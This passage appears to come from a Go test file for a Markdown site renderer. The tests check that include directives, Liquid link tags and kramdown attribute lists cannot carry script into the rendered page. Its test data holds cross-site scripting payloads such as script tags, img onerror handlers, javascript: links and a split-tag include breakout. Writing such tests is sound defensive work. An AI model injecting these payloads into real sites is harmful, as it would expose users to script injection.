		"content/en/parts/evil.md":  "---\ntitle: x\n---\n<script>alert(1)</script>\n\n<img src=x onerror=alert(2)>\n\n[x](javascript:alert(3))",
		"content/en/parts/split.md": "<scr",
		"content/en/parts/again.md": "<!--@include: ./again.md--><!--@include: ./evil.md-->",
	}
	include := func(from, dest string) (string, []byte, error) {
		name := path.Join(path.Dir(from), dest)
		if text, ok := files[name]; ok {
			return name, []byte(text), nil
		}
		return "", nil, fmt.Errorf("%s does not exist", name)
	}
	for _, r := range withDefaultTheme(t) {
		for _, src := range []string{
			"<!--@include: ../parts/evil.md-->",
			"<!--@include: ../parts/split.md-->ipt>alert(4)</script>",
			"<!--@include: ../parts/again.md-->",
			"<!--@include: ../parts/evil.md{4,}-->",
		} {
			t.Run(fmt.Sprintf("%s unsafe=%v", src, r.opts.Unsafe), func(t *testing.T) {
				res := r.Render(Document{Source: []byte("Intro.\n\n" + src + "\n\nAfter.\n"), File: "content/en/guide/x.md", Line: 4, Include: include})
				html := bytes.ReplaceAll(res.HTML, []byte("<!-- raw HTML omitted -->"), nil)
				if bad := scriptCapable(html); bad != "" {
					t.Fatalf("%s survives in\n%s", bad, res.HTML)
				}
				if !bytes.Contains(res.HTML, []byte("After.")) {
					t.Errorf("the page lost its text after the include:\n%s", res.HTML)
				}
			})
		}
	}
}

// jekyllCases are a Jekyll page's Liquid tags and kramdown attribute
// lists that carry script: a {% link %} to a script address, event
// handlers and styles in attribute lists, markup in a titled callout's
// title and in a label; none reaches the page, with raw HTML off or on.
var jekyllCases = []struct{ name, src string }{
	{"javascript in link", "[x]({% link javascript:alert(1) %})"},
	{"javascript link reference", "[x]: {% link javascript:alert(1) %}\n\n[x]"},
	{"link tag breakout", `[x]({% link "><script>alert(1)</script> %})`},
	{"event handler in a block list", "Text\n{: onclick=\"alert(1)\" }"},
	{"event handler beside a callout", "{: .note onmouseover=\"alert(1)\" style=\"x\" }\nText"},
	{"event handler after a link", "[x](/y){: .btn onclick=\"alert(1)\" }"},
	{"markup in a callout title", "{: .note-title }\n> <img src=x onerror=alert(1)>\n>\n> Text"},
	{"markup in a label", "<script>alert(1)</script>\n{: .label .label-green }"},
	{"raw block with script", "{% raw %}\n<script>alert(1)</script>\n{% endraw %}"},
	{"highlight with markup", "{% highlight html %}\n<script>alert(1)</script>\n{% endhighlight %}"},
	{"baseurl before script", "{{ site.baseurl }}<script>alert(1)</script>"},
}

func TestJekyllPagesRunNoScript(t *testing.T) {
	runNoScript(t, "content/en/x.md", "", jekyllCases)
}
